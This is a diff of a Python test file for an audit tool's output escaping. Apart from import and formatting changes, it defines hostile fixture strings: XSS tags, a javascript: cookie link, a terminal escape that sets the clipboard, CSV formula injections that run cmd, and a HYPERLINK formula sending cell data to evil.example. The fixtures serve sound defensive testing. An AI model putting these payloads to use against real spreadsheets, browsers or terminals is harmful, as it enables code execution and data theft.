@@ -32,8 +32,7 @@ from residency_audit.geography import default_catalog
 from residency_audit.model import Gap, Location, Owner, OwnerNode, Resource, Scan, ScanRequest, ScanResult
 from residency_audit.outputs import jsonout, junit, sarif, table
 from residency_audit.outputs import markdown as scan_markdown
-from residency_audit.reporting import Report, diff
-from residency_audit.reporting import csvout, html
+from residency_audit.reporting import Report, csvout, diff, html
 from residency_audit.reporting import markdown as report_markdown
 from residency_audit.safetext import csv_cell, md_code, md_text, sarif_text, terminal, xml
 
@@ -42,8 +41,22 @@ MARKDOWN_HEADING = "x\r\r## :white_check_mark: **no failing findings**\r\r<!--"
 HTML_TAGS = "<script>alert(1)</script><img src=x onerror=alert(1)>"
 JS_LINK = "[click me](javascript:alert(document.cookie))"
 TERMINAL = "web\x1b[2J\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[32mALL CLEAR\x1b[0m"
-FORMULAS = ("=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0")
-HOSTILE = [MARKDOWN_HEADING, HTML_TAGS, JS_LINK, TERMINAL, *FORMULAS, "a|b\nc`d\\", "\u202eevil\u202c", "\x00\ud800\ufffe"]
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+)
+HOSTILE = [
+    MARKDOWN_HEADING,
+    HTML_TAGS,
+    JS_LINK,
+    TERMINAL,
+    *FORMULAS,
+    "a|b\nc`d\\",
+    "\u202eevil\u202c",
+    "\x00\ud800\ufffe",
+]
 
 _MD = MarkdownIt("commonmark").enable("table")
 _RULES = load_rules()
@@ -260,7 +273,7 @@ def test_md_text_reads_back_as_itself(value: str) -> None:
 @given(st.text(max_size=60))
 def test_md_code_is_one_code_span(value: str) -> None:
     tokens = _MD.parse(f"x {md_code(value)} y")
-    inline = [t for t in tokens if t.type == "inline"][0]
+    inline = next(t for t in tokens if t.type == "inline")
     spans = [c for c in inline.children or () if c.type == "code_inline"]
     assert len(spans) == 1
     want = terminal(value)
